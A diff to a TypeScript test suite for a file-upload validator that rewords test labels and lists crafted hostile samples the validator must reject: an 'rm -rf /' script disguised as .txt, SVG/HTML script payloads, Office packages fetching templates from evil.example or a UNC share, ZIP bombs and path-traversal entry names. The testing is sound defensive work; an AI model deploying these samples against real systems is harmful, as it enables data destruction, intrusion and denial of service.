@@ -12,7 +12,7 @@ import { makeCompoundFile, makePackage, makePdf, makePicture, makeZip, uploadFor
 const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
 const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
   `<Relationship Id="rId1" Type="${OFFICE}/${type}" Target="${target}" ${mode}/>`
-/** What does not shrink, so that the rest is no bomb beside it. */
+/** Incompressible padding, so that the rest of the package does not look like a ZIP bomb. */
 const filler = randomBytes(8000)
 const megabytes = (count: number) => Buffer.alloc(count * 1024 * 1024)
 const jpeg = await makePicture('jpeg', 400, 300)
@@ -24,19 +24,19 @@ const HOSTILE: readonly (readonly [string, string, Buffer])[] = [
   ['a web page as .txt', 'books.txt', Buffer.from('\uFEFF \n<HTML><script>alert(1)</script>')],
   ['an SVG as .png', 'shop.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
   ['an SVG as .txt', 'shop.txt', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
-  ['an SVG by its name', 'shop.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
+  ['an SVG by its extension', 'shop.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
   ['a program for Windows', 'books.pdf', Buffer.from(`MZ${'\0'.repeat(500)}`)],
   ['a program for Linux', 'books.doc', Buffer.from(`\x7FELF${'\0'.repeat(500)}`, 'latin1')],
   ['a program for macOS', 'books.jpg', Buffer.from(`\xCF\xFA\xED\xFE${'\0'.repeat(500)}`, 'latin1')],
   ['a script as .txt', 'books.txt', Buffer.from('#!/bin/sh\nrm -rf /\n')],
   ['a program as .txt', 'books.txt', Buffer.from(`MZ${'\0'.repeat(500)}`)],
-  ['a program by its name', 'books.pdf.exe', Buffer.from('MZ')],
-  ['a text that is none', 'books.txt', Buffer.from('caf\xE9', 'latin1')],
+  ['a program by its extension', 'books.pdf.exe', Buffer.from('MZ')],
+  ['a text file in another encoding', 'books.txt', Buffer.from('caf\xE9', 'latin1')],
   ['a text in UTF-16', 'books.txt', Buffer.from('\uFEFFbooks', 'utf16le')],
   ['a picture as .pdf', 'books.pdf', jpeg],
   ['a PDF as .docx', 'books.docx', makePdf()],
-  ['a cut PDF', 'books.pdf', makePdf('x'.repeat(5000)).subarray(0, 3000)],
-  ['a web page with a PDF behind it', 'books.pdf', Buffer.concat([Buffer.from('<html>'), makePdf()])],
+  ['a truncated PDF', 'books.pdf', makePdf('x'.repeat(5000)).subarray(0, 3000)],
+  ['a web page followed by a PDF', 'books.pdf', Buffer.concat([Buffer.from('<html>'), makePdf()])],
   ['a ZIP as .docx', 'books.docx', makeZip([{ name: 'setup.txt', content: 'hello' }])],
   ['a .docx as .xlsx', 'books.xlsx', makePackage()],
   [
@@ -77,40 +77,40 @@ const HOSTILE: readonly (readonly [string, string, Buffer])[] = [
     makePackage({ document: Buffer.from('\uFEFF<!DOCTYPE x><x/>', 'utf16le') }),
   ],
   [
-    'a template from elsewhere',
+    'an external template',
     'books.docx',
     makePackage({ relations: relation('attachedTemplate', 'https://evil.example/t.dotm') }),
   ],
   [
-    'a picture from elsewhere',
+    'an external picture',
     'books.docx',
     makePackage({ relations: relation('image', '\\\\evil.example\\share\\a.png') }),
   ],
   [
-    'a template from elsewhere, in disguise',
+    'an external template, disguised',
     'books.docx',
     makePackage({ relations: relation('attachedTemplate', 'https://evil.example/', 'TargetMode="&#69;xternal"') }),
   ],
   [
-    'a link that is a program',
+    'a link to a script',
     'books.docx',
     makePackage({ relations: relation('hyperlink', 'file:///c:/windows/system32/cmd.exe') }),
   ],
   [
-    'a workbook that reads another',
+    'a workbook that links to another one',
     'books.xlsx',
     makePackage({ format: 'xlsx', relations: relation('externalLinkPath', 'file:///c:/secret.xlsx') }),
   ],
-  ['a bomb', 'books.docx', makePackage({ more: [{ name: 'word/media/bomb.bmp', content: megabytes(60) }] })],
+  ['a ZIP bomb', 'books.docx', makePackage({ more: [{ name: 'word/media/bomb.bmp', content: megabytes(60) }] })],
   [
-    'a bomb in pieces',
+    'a ZIP bomb of many parts',
     'books.docx',
     makePackage({
       more: Array.from({ length: 300 }, (_, index) => ({ name: `word/media/${index}.bmp`, content: megabytes(1) })),
     }),
   ],
   [
-    'a bomb that says it is small',
+    'a ZIP bomb that declares a small size',
     'books.docx',
     makePackage({ more: [{ name: 'word/media/bomb.bmp', content: megabytes(60), claims: { size: 1000 } }] }),
   ],
@@ -120,13 +120,13 @@ const HOSTILE: readonly (readonly [string, string, Buffer])[] = [
     makePackage({ more: Array.from({ length: 1998 }, (_, index) => ({ name: `word/${index}.txt`, content: 'x' })) }),
   ],
   [
-    'relations that never end',
+    'endless relationships',
     'books.docx',
     makePackage({ relations: '<Relationship '.repeat(70_000), more: [{ name: 'word/a.png', content: filler }] }),
   ],
-  ['a name that leads out', 'books.docx', makePackage({ more: [{ name: '../../evil.txt', content: 'x' }] })],
-  ['an absolute name', 'books.docx', makePackage({ more: [{ name: '/etc/evil.txt', content: 'x' }] })],
-  ['a name with backslashes', 'books.docx', makePackage({ more: [{ name: '..\\evil.txt', content: 'x' }] })],
+  ['a part name with a parent path', 'books.docx', makePackage({ more: [{ name: '../../evil.txt', content: 'x' }] })],
+  ['an absolute part name', 'books.docx', makePackage({ more: [{ name: '/etc/evil.txt', content: 'x' }] })],
+  ['a part name with backslashes', 'books.docx', makePackage({ more: [{ name: '..\\evil.txt', content: 'x' }] })],
   ['the same part twice', 'books.docx', makePackage({ more: [{ name: 'Word/Document.xml', content: '<x/>' }] })],
   [
     'an encrypted part',
@@ -139,21 +139,21 @@ const HOSTILE: readonly (readonly [string, string, Buffer])[] = [
   ['a .doc with macros', 'books.doc', makeCompoundFile(['WordDocument', '_VBA_PROJECT'])],
   ['a .xls with macros', 'books.xls', makeCompoundFile(['Workbook', '_VBA_PROJECT_CUR'])],
   ['a cut .xls', 'books.xls', makeCompoundFile(['Workbook']).subarray(0, 1200)],
-  ['a cut JPEG', 'shop.jpg', jpeg.subarray(0, -200)],
-  ['a cut PNG', 'shop.png', png.subarray(0, -20)],
+  ['a truncated JPEG', 'shop.jpg', jpeg.subarray(0, -200)],
+  ['a truncated PNG', 'shop.png', png.subarray(0, -20)],
   ['a JPEG of 50,000 × 50,000', 'shop.jpg', resizedJpeg(jpeg)],
   ['a PNG of 50,000 × 50,000', 'shop.png', resizedPng(png)],
 ]
 
-test.each(HOSTILE)('%s is refused in no time', async (_, fileName, file) => {
+test.each(HOSTILE)('%s is refused quickly', async (_, fileName, file) => {
   const startedAt = performance.now()
   const format = formatOfName(fileName)
   if (format) await expect(inspectDocument(file, format)).rejects.toThrow(AppError)
-  // On a machine that has nothing else to do it is a fraction of 500.
+  // The limit is 500 ms; on an idle machine it takes a fraction of that.
   expect(performance.now() - startedAt).toBeLessThan(1500)
 })
 
-test('whoever uploads one of them hears why, and nothing of it is left', async () => {
+test('uploading a hostile file returns the reason, and nothing is stored', async () => {
   const { world, upload } = await createSeller()
   for (const [what, fileName, file] of HOSTILE) {
     const problem = Problem.parse(await (await upload({ file, fileName })).json())
@@ -166,13 +166,9 @@ test('whoever uploads one of them hears why, and nothing of it is left', async (
 
 const HARMLESS: readonly (readonly [string, string, Buffer])[] = [
   ['a PDF', 'books.PDF', makePdf()],
-  ['a text', 'books.txt', Buffer.from('Café\r\n\tMZ Holdings\n< 5 % of sales')],
-  ['an empty-looking text', 'books.txt', Buffer.from('\n')],
-  [
-    'a .docx with a link to press',
-    'books.docx',
-    makePackage({ relations: relation('hyperlink', 'https://example.com/') }),
-  ],
+  ['a text file', 'books.txt', Buffer.from('Café\r\n\tMZ Holdings\n< 5 % of sales')],
+  ['a text file with only a line break', 'books.txt', Buffer.from('\n')],
+  ['a .docx with a hyperlink', 'books.docx', makePackage({ relations: relation('hyperlink', 'https://example.com/') })],
   [
     'a .docx with a comment before its first element',
     'books.docx',
@@ -186,11 +182,11 @@ const HARMLESS: readonly (readonly [string, string, Buffer])[] = [
   ['a .doc', 'books.doc', makeCompoundFile(['WordDocument'])],
   ['a .xls of 1995', 'books.xls', makeCompoundFile(['Book'])],
   ['a JPEG', 'shop.jpeg', jpeg],
-  ['a JPEG that a phone wrote more behind', 'shop.jpg', Buffer.concat([jpeg, Buffer.from('SEFT')])],
+  ['a JPEG with trailing data from a phone', 'shop.jpg', Buffer.concat([jpeg, Buffer.from('SEFT')])],
   ['a PNG', 'shop.png', png],
 ]
 
-test('what people have in their drawers is taken', async () => {
+test('ordinary files are accepted', async () => {
   const { world, upload } = await createSeller()
   for (const [what, fileName, file] of HARMLESS) {
     expect((await upload({ file, fileName })).status, what).toBe(201)
